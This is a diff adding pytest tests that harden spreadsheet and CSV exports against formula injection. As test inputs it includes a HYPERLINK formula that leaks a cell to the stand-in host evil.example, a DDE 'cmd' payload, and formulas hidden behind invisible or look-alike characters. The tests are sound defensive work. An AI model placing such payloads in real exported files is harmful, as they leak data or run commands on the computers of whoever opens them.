@@ -241,3 +241,106 @@ def test_xlsx_shows_tags_as_1_and_leaves_untagged_cells_empty(news_corpus, tagge
     rows = list(openpyxl.load_workbook(paths[0])["sentences_tagged"].values)
     column = rows[0].index("tag:threat or warning:ana")
     assert [row[column] for row in rows[1:]] == [None, None, 1, None, None]
+
+
+def test_a_control_character_before_a_formula_is_stripped_then_neutralised(tmp_path):
+    """Hardening item 1: stripping ran after neutralising, so '\\x01=HYPERLINK(...)' became a live formula."""
+    title = '\x01=HYPERLINK("http://evil.example/?"&A2,"Open")'
+    corpus = workbench.load_text("Iran warned Israel.", title=title)
+    paths = export.summaries(corpus, None, tmp_path, format="xlsx")
+    cell = openpyxl.load_workbook(paths[0])["articles"]["B2"]
+    assert (cell.data_type, cell.value) == ("s", '\'=HYPERLINK("http://evil.example/?"&A2,"Open")')
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        " =1+1",
+        "  \t=1+1",
+        "\xa0=1+1",
+        "\u200b=1+1",
+        "\u2060\u200d+1",
+        "\ufeff@SUM(A1)",
+        "\x00=1+1",
+        "\x1f-1+1",
+        "\u202e=1+1",
+        "\u3000=1+1",
+        "\r\n=1+1",
+        "＝1+1",
+        "＋1+1",
+        "－1+1",
+        "＠SUM(A1)",
+        "\u200b＝1+1",
+        "﹦1+1",
+    ],
+)
+def test_formula_starts_behind_invisible_or_look_alike_characters_are_neutralised(value):
+    """Hardening item 1: spaces, NBSP, zero-width characters, BOM, NUL and full-width signs hid a formula."""
+    out = export.neutralise(pd.DataFrame({"text": pd.Series([value], dtype="string")}))["text"].iloc[0]
+    assert out.startswith("'")
+    assert "\x00" not in out and "\x1f" not in out
+
+
+@pytest.mark.parametrize("dtype", ["string", "object", "category"])
+def test_text_and_headers_are_made_safe_whatever_the_column_dtype(dtype):
+    """Hardening item 1: object and categorical columns and the headers go through the same function as text."""
+    frame = pd.DataFrame({"\x01=head": pd.Series(["\x02＝x", "plain"], dtype=dtype)})
+    out = export.neutralise(frame)
+    assert list(out.columns) == ["'=head"]
+    assert [str(value) for value in out.iloc[:, 0]] == ["'＝x", "plain"]
+
+
+def test_xlsx_stores_text_as_strings_never_as_links_numbers_or_formulas(tmp_path):
+    """The workbook writer keeps every text cell a plain string, numbers numbers and dates dates."""
+    frame = pd.DataFrame(
+        {
+            "text": pd.Series(["http://evil.example", "0123", "1e5", "TRUE"], dtype="string"),
+            "n": [1, -2, 3, 4],
+            "when": pd.to_datetime(["2024-04-15", None, "2024-04-16", "2024-04-17"]),
+            "flag": [True, False, True, False],
+        }
+    )
+    export.writing.write_xlsx({"t": frame}, tmp_path / "t.xlsx")
+    rows = list(openpyxl.load_workbook(tmp_path / "t.xlsx")["t"].iter_rows(min_row=2))
+    assert [(row[0].data_type, row[0].value, row[0].hyperlink) for row in rows] == [
+        ("s", "http://evil.example", None),
+        ("s", "0123", None),
+        ("s", "1e5", None),
+        ("s", "TRUE", None),
+    ]
+    assert [row[1].value for row in rows] == [1, -2, 3, 4]
+    assert [row[2].value for row in rows] == [
+        pd.Timestamp("2024-04-15"),
+        None,
+        pd.Timestamp("2024-04-16"),
+        pd.Timestamp("2024-04-17"),
+    ]
+    assert [row[3].value for row in rows] == [True, False, True, False]
+
+
+def test_xlsx_cuts_cells_longer_than_excel_holds_and_says_so(tmp_path):
+    frame = pd.DataFrame({"text": pd.Series(["x" * 40_000, "short"], dtype="string")})
+    with pytest.warns(UserWarning, match=r"1 cell\(s\) of the sheet 't'.*32,767 characters.*format='csv'"):
+        export.writing.write_xlsx({"t": frame}, tmp_path / "t.xlsx")
+    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["t"]
+    assert [len(sheet["A2"].value), sheet["A3"].value] == [32_767, "short"]
+
+
+def test_xlsx_refuses_a_table_longer_than_a_sheet(tmp_path):
+    frame = pd.DataFrame({"n": range(export.writing.XLSX_MAX_ROWS)})
+    with pytest.raises(ExportError, match=r"1,048,576 rows, more than an Excel sheet holds .*format='csv'"):
+        export.writing.write_xlsx({"big": frame}, tmp_path / "big.xlsx")
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["Breaking news\r=cmd|' /C calc'!A0", "one\ntwo", "one\r\ntwo", 'he said "no", twice', "a,b", "end\r"],
+)
+def test_line_breaks_quotes_and_commas_stay_inside_their_csv_cell(tmp_path, value):
+    """Hardening item 2: a bare carriage return was written unquoted and split the row."""
+    frame = pd.DataFrame({"title": pd.Series([value], dtype="string"), "n": [1]})
+    path = export.writing.write_csv(frame, tmp_path / "t.csv")
+    with path.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert rows == [["title", "n"], [value, "1"]]
